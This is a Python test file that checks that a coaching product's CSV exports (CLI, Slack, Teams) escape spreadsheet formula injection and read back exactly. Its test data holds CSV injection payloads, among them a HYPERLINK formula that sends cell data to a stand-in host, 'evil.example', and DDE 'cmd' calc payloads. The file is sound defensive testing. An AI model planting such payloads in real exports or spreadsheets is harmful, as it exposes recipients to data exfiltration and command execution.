"""Every CSV the product writes, as a manager or an admin gets it — `coach export csv`, `/team export` on
Slack and on Teams — with names and lesson titles a spreadsheet would run as formulas: each such cell starts
with a `'` (OWASP), and dropping one leading `'` gives every value back exactly (docs/records.md)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlmodel import col

from bot.chat.coach import Coach
from store.db import Database
from store.models import LessonVersion, Person
from tests.conftest import Clock
from tests.records.test_exports import coach_cli
from tests.support.fake_connector import TeamsBot, connector, teams
from tests.support.learner import answer, next_card
from tests.support.org import load_sample_org
from tests.support.slack_session import SlackServer, slack

__all__ = ["connector", "slack", "teams"]  # fixtures

SQLITE = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
HOSTILE = {"ben@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
           "cara@example.com": "+1+cmd|' /C calc'!A0", "eli@example.com": "@SUM(1+1)*cmd|' /C calc'!A0"}
TITLE = "-2+3+cmd|' /C calc'!A0"
ODD = "'quoted on purpose"
"""A value that starts with the escape itself: escaped too, so reading back stays exact."""
STARTS = ("=", "+", "-", "@", "\t", "\r")


async def hostile_names(db: Database) -> None:
    async with db.session() as session:
        for email, name in HOSTILE.items():
            await session.exec(update(Person).where(col(Person.email) == email).values(name=name))
        await session.exec(update(Person).where(col(Person.email) == "dana@example.com").values(name=ODD))


def read_back(data: str) -> list[dict[str, str]]:
    """What docs/records.md tells a program to do: parse the CSV, drop one leading `'` from each cell."""
    rows = list(csv.DictReader(io.StringIO(data.lstrip("\ufeff"))))
    return [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in rows]


def assert_neutral(data: str) -> None:
    """No cell a spreadsheet would evaluate."""
    for row in csv.reader(io.StringIO(data.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(STARTS), cell


@SQLITE
async def test_coach_export_csv_neutralises_formulas_and_reads_back_exactly(
        coach: Coach, db: Database, db_url: str, clock: Clock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = await load_sample_org(db, tmp_path)
    await hostile_names(db)
    async with db.session() as session:
        await session.exec(update(LessonVersion).values(title=TITLE))
    for email in ("ben@example.com", "cara@example.com", "dana@example.com"):
        await answer(coach, ids[email], await next_card(coach, ids[email]), True)
        clock.advance(minutes=3)
    out = tmp_path / "records.csv"
    await coach_cli(db_url, tmp_path, monkeypatch, "export", "csv", "--out", str(out))
    text = out.read_text(encoding="utf-8")
    assert_neutral(text)
    rows = read_back(text)
    names = {r["email"]: r["name"] for r in rows}
    assert names == {"ben@example.com": HOSTILE["ben@example.com"], "cara@example.com": HOSTILE["cara@example.com"],
                     "dana@example.com": ODD}
    assert {r["lesson_title"] for r in rows} == {TITLE}


@SQLITE
async def test_slack_team_export_neutralises_formulas(slack: SlackServer) -> None:
    await hostile_names(slack.coach.services.database)
    await slack.person("UMIA").command("export", command="/team")
    [upload] = await slack.fake.wait_for("file.upload")
    data = upload.args["data"].decode("utf-8")
    assert_neutral(data)
    rows = read_back(data)
    assert {r["email"]: r["name"] for r in rows} == {e: n for e, n in HOSTILE.items()}


@SQLITE
async def test_teams_team_export_neutralises_formulas(teams: TeamsBot) -> None:
    await hostile_names(teams.db)
    mia = teams.user("29:mia", "Mia Manager")
    [_, offer] = await mia.say("team export")
    uploads = set(teams.connector.uploads)
    status, _, _ = await mia.answer_file(offer)
    [session] = set(teams.connector.uploads) - uploads
    data = teams.connector.uploads[session].decode("utf-8")
    assert status == 200
    assert_neutral(data)
    names = {r["email"]: r["name"] for r in read_back(data)}
    assert {e: names[e] for e in HOSTILE} == HOSTILE and names["hal@example.com"] == "Hal Aad"
